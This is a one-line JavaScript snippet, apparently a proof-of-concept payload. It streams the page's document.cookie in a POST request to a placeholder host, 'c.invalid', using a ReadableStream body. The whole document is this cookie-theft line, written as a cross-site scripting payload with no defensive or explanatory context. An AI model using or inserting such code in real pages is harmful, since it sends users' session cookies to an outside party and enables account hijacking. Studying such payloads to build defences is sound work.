const rs = new ReadableStream({ start(c) { c.enqueue(document.cookie); c.close(); } }); fetch('https://c.invalid', { method: 'POST', body: rs, duplex: 'half' });
